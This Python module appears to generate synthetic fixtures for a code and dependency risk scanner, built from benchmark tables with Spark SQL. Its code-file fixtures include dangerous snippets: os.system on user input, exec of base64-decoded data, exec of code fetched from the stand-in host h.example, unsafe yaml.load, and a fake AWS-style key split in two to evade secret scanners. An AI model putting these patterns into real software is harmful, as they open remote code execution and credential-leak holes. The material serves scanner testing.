"""Inputs derived from the driver tables with plain SQL (whole tables, no subsets)."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from riskframe import rules
from riskframe.sources.files import spread

# Names that secret scanners look for are written in two halves ('AK' || 'IA'), so that this file is no finding itself.

# --- fixed values: the shared input SQL, the same text in Spark and in the oracle ----------------

CODE_FILES = """
SELECT doc_id AS file_id,
       'r' || CAST(doc_id % 25 AS VARCHAR(10)) AS repo,
       CAST(floor(doc_id / 25) AS INT) AS file_ord,
       'top/' || CASE doc_id % 10 WHEN 0 THEN 'tests/' WHEN 1 THEN 'examples/' WHEN 2 THEN 'docs/'
         WHEN 3 THEN '.github/workflows/' ELSE 'src/' END
         || 'm' || CAST(doc_id AS VARCHAR(20))
         || CASE doc_id % 10 WHEN 3 THEN '.yml' WHEN 5 THEN '.html' WHEN 6 THEN '.md' WHEN 7 THEN '_test.py' ELSE '.py' END AS path,
       CASE doc_id % 3 WHEN 0 THEN 'scan this' WHEN 1 THEN 'draw a simple monthly chart' ELSE 'build a report' END AS intent,
       CASE CAST(floor(doc_id / 10) AS INT) % 12
         WHEN 0 THEN 'print(1)'
         WHEN 1 THEN 'import os' || chr(10) || 'x = input()' || chr(10) || 'os.system(x)'
         WHEN 2 THEN 'eval("1+1")'
         WHEN 3 THEN 'k = "' || 'AK' || 'IA' || repeat('A', 16) || '"'
         WHEN 4 THEN 'f = open("a.txt")'
         WHEN 5 THEN 'import subprocess' || chr(10) || 'subprocess.run("ls")'
         WHEN 6 THEN 'import base64' || chr(10) || 'exec(base64.b64decode(p))'
         WHEN 7 THEN 'import requests' || chr(10) || 'r = requests.get("http://h.example/a")' || chr(10) || 'exec(r.text)'
         WHEN 8 THEN 'c = chr(97)+chr(98)+chr(99)+chr(100)'
         WHEN 9 THEN 'data = yaml.load(open("c.yml"))'
         WHEN 10 THEN 's = "' || repeat('A', 200) || '"'
         ELSE 'def fetch_json(u):' || chr(10) || '    return urllib.request.urlopen(u)'
       END || chr(10) || '# ' || lang || ' ' || CAST(doc_id AS VARCHAR(20)) AS content
FROM documents
"""

# The same files with their whole document text kept as comment lines: realistic text volume.
CODE_TEXTS = CODE_FILES.replace(
    " AS content\n", "\n       || chr(10) || '# ' || replace(text, chr(10), chr(10) || '# ') AS content\n"
)

# One Python program per document: its whole text is a string of the program, followed by calls of one watched target, which the
# number of the document chooses from all of them, with an argument of each kind.
CALL_NAMES = [*rules.CALL_TARGETS, *[f"{name}.run" for name in rules.CALL_TARGET_MODULES]]
PROGRAMS = f"""
SELECT doc_id AS file_id, 'import os' || chr(10) || 'async def f' || CAST(doc_id AS VARCHAR(20)) || '(a):' || chr(10) || '    note = \"\"\"'
       || t || '\"\"\"' || chr(10) || '    v = input()' || chr(10) || '    ' || target || '(v)' || chr(10) || '    x = [' || target || '("lit") for y in a]' || chr(10)
       || '    ' || target || '("a" + v, b=' || target || '(a))' || chr(10) || '    return ' || target || '()' || chr(10)
       || target || '(os.environ["K"])' || chr(10) AS content
FROM (SELECT doc_id, replace(replace(replace(coalesce(text, ''), chr(92), ' '), '"', ' '), chr(13), ' ') AS t,
             CASE doc_id % {len(CALL_NAMES)} {' '.join(f"WHEN {i} THEN '{name}'" for i, name in enumerate(CALL_NAMES))} END AS target
      FROM documents) d
"""

MANIFEST_LINES = """
SELECT 'r' || CAST(p_partkey % 25 AS VARCHAR(10)) AS repo, 'top/requirements.txt' AS file,
       CAST(floor(p_partkey / 25) AS INT) + 1 AS line,
       CASE CAST(floor(p_partkey / 25) AS INT) % 10
         WHEN 0 THEN pk || '==1.2.' || CAST(p_partkey % 7 AS VARCHAR(10))
         WHEN 1 THEN pk || '~=1.4' WHEN 2 THEN pk || '>=2.0' WHEN 3 THEN pk WHEN 4 THEN '# note'
         WHEN 5 THEN pk || '[extra]==v2.0 ; python_version>"3"' WHEN 6 THEN '-r base.txt'
         WHEN 7 THEN pk || ' 1.0' WHEN 8 THEN pk || '==1.0.0-next.1' ELSE pk || '==1.*' END AS raw
FROM (SELECT p_partkey, 'pkg' || CAST(p_partkey % 50 AS VARCHAR(10)) AS pk FROM part) p
"""

ADVISORIES = """
SELECT 'PyPI' AS ecosystem, 'pkg' || CAST(p_partkey % 50 AS VARCHAR(10)) AS package,
       '1.2.' || CAST(p_partkey % 7 AS VARCHAR(10)) AS version, 'ADV-' || CAST(p_partkey AS VARCHAR(10)) AS id,
       CASE p_partkey % 6 WHEN 0 THEN 'CRITICAL' WHEN 1 THEN 'high' WHEN 2 THEN 'MODERATE' WHEN 3 THEN 'LOW' WHEN 4 THEN 'IMPORTANT' ELSE '' END AS severity,
       CASE WHEN p_partkey % 4 = 0 THEN '' ELSE 'summary of ' || p_name END AS summary,
       '1.3.' || CAST(p_partkey % 5 AS VARCHAR(10)) AS fixed
FROM part
"""

# Advisories as JSON lines of varying shape, one per part: both ecosystems, severities in all places (and in places where they do not
# count), none to seven fixed versions and aliases, two affected packages, long summaries, fields no schema knows, and broken lines.
ADVISORY_JSON = """
SELECT p_partkey AS line_no, CASE WHEN p_partkey % 97 = 0 THEN '{"id": "broken' WHEN p_partkey % 89 = 0 THEN '["ADV"]' ELSE
       '{"id":"ADV-' || k || '","published":"2024-01-0' || CAST(p_partkey % 9 + 1 AS VARCHAR(10)) || 'T00:00:00Z","summary":"'
       || CASE p_partkey % 4 WHEN 0 THEN ' ' WHEN 1 THEN repeat('long summary ', 60) ELSE ' summary of ' || p_name || ' ' END || '"'
       || CASE p_partkey % 3 WHEN 0 THEN ',"details":" details of ' || k || '"' WHEN 1 THEN ',"details":17' ELSE '' END
       || ',"aliases":[' || left('"CVE-1","CVE-2"," ","CVE-4","CVE-5","CVE-6","CVE-7","CVE-8",', al) || '7]'
       || ',"affected":[{"package":{"name":"' || pk || '","ecosystem":"' || CASE p_partkey % 2 WHEN 0 THEN 'PyPI' ELSE 'npm' END
       || '"},"versions":["1.2.' || CAST(p_partkey % 7 AS VARCHAR(10)) || '","9.9"],"ranges":[{"type":"SEMVER","events":[{"introduced":"0"}'
       || left(',{"fixed":"2.0.0"},{"fixed":"2.1.0"},{"fixed":"2.0.0"},{"fixed":" 2.2 "},{"fixed":"2.3.0"},{"fixed":"2.4.0"},{"fixed":"2.5.0"}', 18 * (p_partkey % 8))
       || ']},{"events":"none"}]' || CASE p_partkey % 6 WHEN 0 THEN ',"ecosystem_specific":{"severity":" critical "}' WHEN 1 THEN ',"ecosystem_specific":{"severity":3}' ELSE '' END
       || '}' || CASE WHEN p_partkey % 5 = 0 THEN ',{"package":{"name":"left","ecosystem":"npm"},"versions":["2.0"],"ranges":[{"events":[{"fixed":"3.0.0"},{"fixed":3}]}]},7' ELSE '' END || ']'
       || CASE p_partkey % 6 WHEN 1 THEN ',"database_specific":{"severity":"moderate","x":[1]}' WHEN 2 THEN ',"severity":[5,{"type":"V3","score":"7.1"},{"score":"x:low/High"}]'
            WHEN 3 THEN ',"severity":{"score":"HIGH"}' WHEN 4 THEN ',"severity":"HIGH"' ELSE '' END
       || ',"x_extra":{"part":' || k || '}}' END AS value
FROM (SELECT *, CAST(p_partkey AS VARCHAR(10)) AS k, 'pkg' || CAST(p_partkey % 50 AS VARCHAR(10)) AS pk,
             CASE p_partkey % 8 WHEN 0 THEN 0 WHEN 1 THEN 8 WHEN 2 THEN 16 WHEN 3 THEN 20 WHEN 4 THEN 28 WHEN 5 THEN 36 WHEN 6 THEN 44 ELSE 60 END AS al
      FROM part) p
"""

SCAN_REQUESTS = """
SELECT event_id AS scan_id, 'user:' || CAST(user_id AS VARCHAR(20)) AS actor_key, CAST(ts AS DATE) AS usage_date, ts,
       CASE user_id % 10 WHEN 0 THEN 'admin' WHEN 1 THEN 'pro' ELSE 'free' END AS plan
FROM events
"""

# A request for each repository and plan that users fall on: several for most repositories, and some for one without files.
REPO_REQUESTS = """
SELECT repo || '-' || plan AS request_id, repo, plan, CAST(count(*) AS BIGINT) AS n_events
FROM (SELECT 'r' || CAST(user_id % 26 AS VARCHAR(10)) AS repo,
             CASE user_id % 10 WHEN 0 THEN 'admin' WHEN 1 THEN 'pro' ELSE 'free' END AS plan FROM events) u
GROUP BY repo, plan
"""

# One package.json per 25 parts, built as text.
PACKAGE_JSON = """
SELECT p_partkey AS file_id, 'r' || CAST(p_partkey % 25 AS VARCHAR(10)) AS repo,
       'top/m' || CAST(p_partkey AS VARCHAR(20)) || '/package.json' AS path,
       CASE p_partkey % 7
         WHEN 5 THEN '{"dependencies":{"t":true,"f":false,"n":null,"i":12,"x":1.50,"y":1.0,"e":1e5,"s":2e-7,"m":1.5E16,"k":0.0001,"big":123456789012345678901234567890}}'
         WHEN 6 THEN '{"dependencies":{"' || pk || '":"9.9","b":"2.0","' || pk || '":"1.2.' || CAST(p_partkey % 4 AS VARCHAR(10)) || '"}}'
         WHEN 0 THEN '{"name":"n","dependencies":{"' || pk || '":"^1.2.' || CAST(p_partkey % 7 AS VARCHAR(10))
           || '","left":"1.x"},"devDependencies":{"dev":"~2.0"}}'
         WHEN 1 THEN '{"dependencies":{"' || pk || '":"1.2.' || CAST(p_partkey % 7 AS VARCHAR(10))
           || '"},"peerDependencies":[1],"optionalDependencies":{"opt":"1 || 2","eq":"=1.0"}}'
         WHEN 2 THEN '{"dependencies": {'
         WHEN 3 THEN '{"devDependencies":{"a":"latest","b":"workspace:*","c":"1.0 - 2.0","d":""}}'
         ELSE '{"name":"' || pk || '"}' END AS content
FROM (SELECT p_partkey, 'pkg' || CAST(p_partkey % 50 AS VARCHAR(10)) AS pk FROM part) p
"""

# All files of the repositories with a language of code, package.json among them.
REPO_FILES = f"""
{CODE_TEXTS}
UNION ALL
SELECT -1 - file_id AS file_id, repo, CAST(1000000 + file_id AS INT) AS file_ord, path, 'build a report' AS intent, content
FROM ({PACKAGE_JSON}) j
"""

# Repository addresses of several shapes, derived from page addresses.
REPO_URLS = """
SELECT page_id,
       CASE page_id % 6
         WHEN 0 THEN 'https://github.com/o' || CAST(page_id AS VARCHAR(20)) || '/p.git'
         WHEN 1 THEN 'https://www.github.com/o' || CAST(page_id AS VARCHAR(20)) || '/p/tree/main?x=1'
         WHEN 2 THEN 'http://github.com//o//p' || CAST(page_id AS VARCHAR(20)) || '#frag'
         WHEN 3 THEN 'https://github.com/only'
         WHEN 4 THEN 'https://user@github.com/o/p'
         ELSE url END AS repo_url
FROM pages
"""


_KEYS = {"documents": "doc_id", "events": "event_id", "part": "p_partkey", "pages": "page_id", "benchmark": "item_id"}


#: Session setting with the number of tasks to deal the tables out to; for small tables of a single split.
PARTITIONS_SETTING = "riskframe.fixtures.partitions"


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return dealt_out(spark.read.parquet(f"{sf_dir}/{name}.parquet"), name)


#: Tables of short rows that become long texts: a file of a few MB is one split, but more work than one task should have.
_DENSE = {"part"}


def dealt_out(rows: DataFrame, name: str) -> DataFrame:
    """A table, arriving or not, dealt out to the number of tasks that the session asks for, if it does.

    Without that a dense table of fewer splits than cores goes to as many tasks as there are cores.
    """
    partitions = rows.sparkSession.conf.get(PARTITIONS_SETTING, None)
    if partitions is None and name in _DENSE and not rows.isStreaming:
        cores = rows.sparkSession.sparkContext.defaultParallelism
        partitions = cores if rows.rdd.getNumPartitions() < cores else None
    return spread(rows, int(partitions) if partitions else None, _KEYS[name])


def derive(spark: SparkSession, sf_dir: str, sql: str) -> DataFrame:
    """Run an input query over the tables of a directory."""
    for name in _KEYS:
        if f"FROM {name}" in sql:
            table(spark, sf_dir, name).createOrReplaceTempView(name)
    return spark.sql(sql)


def code_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    return derive(spark, sf_dir, CODE_FILES)


def code_texts(spark: SparkSession, sf_dir: str) -> DataFrame:
    return derive(spark, sf_dir, CODE_TEXTS)


def requirement_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Requirements files ``repo, path, content``."""
    listed = F.array_sort(F.collect_list(F.struct("line", "raw")))
    requirements = derive(spark, sf_dir, MANIFEST_LINES).groupBy("repo", "file").agg(listed.alias("lines"))
    text = F.array_join(F.transform("lines", lambda entry: entry["raw"]), "\n")
    return requirements.select("repo", F.col("file").alias("path"), text.alias("content"))


def manifest_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Manifest files ``repo, path, content`` of both kinds."""
    return requirement_files(spark, sf_dir).unionByName(derive(spark, sf_dir, PACKAGE_JSON).select("repo", "path", "content"))
